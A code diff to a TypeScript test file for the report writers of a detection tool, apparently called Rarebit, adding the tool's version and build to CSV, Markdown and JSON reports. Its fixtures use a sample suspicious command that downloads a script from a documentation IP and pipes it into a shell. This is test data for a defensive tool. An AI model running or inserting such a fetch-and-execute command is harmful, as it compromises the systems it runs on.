@@ -5,12 +5,13 @@ import { jsonText } from '../../../ui/format/cell.ts'
 import { csvField, csvTable } from '../../../ui/format/csv.ts'
 import { buildReport } from '../../../ui/report/build.ts'
 import { csvReport } from '../../../ui/report/csv.ts'
-import { reportFileName } from '../../../ui/report/formats.ts'
+import { REPORT_FORMATS, reportFileName, WRITERS } from '../../../ui/report/formats.ts'
 import { jsonReport } from '../../../ui/report/json.ts'
 import { markdownReport } from '../../../ui/report/markdown.ts'
 import type { ReportModel } from '../../../ui/report/model.ts'
 import { markdownBlock, markdownText } from '../../../ui/format/markdown.ts'
 
+const TOOL = { version: '1.2.3', build: 'f00d'.repeat(16) }
 const COMMAND = 'sh -c "curl http://203.0.113.7/x|sh"'
 
 function report(change: Partial<Finding> = {}): ReportModel {
@@ -51,7 +52,8 @@ function report(change: Partial<Finding> = {}): ReportModel {
   return buildReport({
     rule: { id: null, name: 'Shell | test', retired: null },
     result,
-    rarity: new Map([['f1', { findingId: 'f1', n: 1, total: 1024, bits: 10, basis: 'x' }]])
+    rarity: new Map([['f1', { findingId: 'f1', n: 1, total: 1024, bits: 10, basis: 'x' }]]),
+    tool: TOOL
   })
 }
 
@@ -125,9 +127,9 @@ describe('findings', () => {
   test('csv: the query columns, then ours', () => {
     expect(csvReport(report())).toBe(
       'process.command_line,"\'=cmd",rarebit.events,rarebit.first_seen,rarebit.last_seen,rarebit.rarity_bits,rarebit.rarity_n,' +
-        'rarebit.rarity_total,rarebit.thresholds,rarebit.dropped_by_kibana,rarebit.sources\r\n' +
+        'rarebit.rarity_total,rarebit.thresholds,rarebit.dropped_by_kibana,rarebit.sources,rarebit.tool\r\n' +
         '"sh -c ""curl http://203.0.113.7/x|sh""",4611686018427387904,3,2026-03-02T10:00:00.000Z,2026-03-02T10:00:05.000Z,10,1,1024,' +
-        '1 of fewer than 5,true,"a.ndjson:12; 2 more"\r\n'
+        `1 of fewer than 5,true,"a.ndjson:12; 2 more","Rarebit ${TOOL.version}, build ${TOOL.build}"\r\n`
     )
   })
 
@@ -143,6 +145,12 @@ describe('findings', () => {
     expect(text).toContain('```text\nsh -c "curl http://203.0.113.7/x|sh"\n```')
     expect(text).toContain('| sources | a.ndjson&#58;12; 2 more |\n')
     expect(text).toContain('| rarity | 10.0 bits, 1 of 1024 loaded events (x) |\n')
+  })
+
+  test.each(REPORT_FORMATS)('%s names the version and the build that made it', (format) => {
+    const text = WRITERS[format].write(report())
+    expect(text).toContain(TOOL.version)
+    expect(text).toContain(TOOL.build)
   })
 
   test('file names are plain', () => {
